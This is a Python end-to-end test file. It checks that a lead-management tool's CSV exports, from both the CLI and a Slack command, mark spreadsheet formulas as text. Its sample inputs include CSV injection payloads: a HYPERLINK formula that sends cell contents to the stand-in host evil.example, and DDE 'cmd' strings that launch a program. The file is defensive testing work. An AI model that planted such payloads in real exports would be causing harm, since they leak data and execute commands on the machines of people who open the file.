"""Hostile CSV: formulas in what Baton exports.

Exports go through the two real doors marketing uses (`baton report feedback --format csv` and a
signed `/leads feedback 30d csv`, whose file is read back from the Slack emulator). Every case
runs on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

from bot.csv_export import FORMULA_TRIGGERS
from handlers.serve import BatonServer
from slack_emulator import MARKETER, REP_2, SALES_CHANNEL, SlackEmulator
from storage.db import Database
from tests.e2e.conftest import send_lead, settled, slack_user, wait_for_card
from tests.handlers.test_cli import baton
from tests.handlers.test_report_cli import NOW, handoff, reject

# Text a spreadsheet would run, as reps and lead sources have typed it.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open the lead")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "=1+1\n=3+3 on a second line",
)
# Columns that carry text someone outside Baton typed.
TYPED_COLUMNS = ("external_id", "name", "company", "source", "campaign", "note")


def assert_no_formulas(text: str, typed: dict[str, str]) -> None:
    """No cell of the CSV starts a formula, and each typed cell kept its text after the mark."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row.values()), row
    exported = {row["external_id"]: row for row in rows}
    for external_id, original in typed.items():
        row = exported["'" + external_id]
        assert [row[column] for column in TYPED_COLUMNS[1:]] == ["'" + original] * 5


# --------------------------------------------------------------------------- export


def test_report_feedback_csv_marks_every_formula_as_text(tmp_path: Path, database_url: str) -> None:
    db = Database.from_url(database_url)
    typed = {}
    for n, formula in enumerate(FORMULAS):
        original = formula.strip()  # intake and the reject form trim what they store
        external_id = f"={n}"
        typed[external_id] = original
        lead_id = handoff(
            db,
            external_id,
            posted=NOW - timedelta(days=2),
            name=formula,
            company=formula,
            source=formula,
            campaign=formula,
        )
        reject(db, lead_id, at=NOW - timedelta(days=1), reason="other", note=formula)
    db.dispose()

    result = baton(
        "report", "feedback", "--format", "csv", cwd=tmp_path, env={"DATABASE_URL": database_url}
    )

    assert result.returncode == 0, result.stderr
    assert_no_formulas(result.stdout, typed)


def test_leads_feedback_csv_file_in_slack_marks_every_formula_as_text(
    bot: BatonServer, slack: SlackEmulator
) -> None:
    rep = slack_user(slack, bot, REP_2)
    typed = {}
    for n, formula in enumerate(FORMULAS):
        original = formula.strip()
        external_id = f"@{n}"
        typed[external_id] = original
        fields = {"name": formula, "company": formula, "source": formula, "campaign": formula}
        lead = send_lead(bot, external_id=external_id, **fields)
        card = wait_for_card(slack, lead["id"])
        rep.click(SALES_CHANNEL, card["ts"], "lead.reject")
        (modal,) = slack.open_views(REP_2)
        submitted = rep.submit_view(
            modal["id"],
            {"reason": {"reason_select": "other"}, "note": {"note_input": formula}},
        )
        assert submitted.status_code == 200 and not submitted.content
    settled(bot)

    slack_user(slack, bot, MARKETER).slash_command("/leads", "feedback 30d csv")

    (message,) = slack.wait_for(lambda: [m for m in slack.dms(MARKETER) if m.get("files")])
    content = slack.file_content(message["files"][0]["id"])
    assert content is not None
    assert_no_formulas(content.decode("utf-8"), typed)
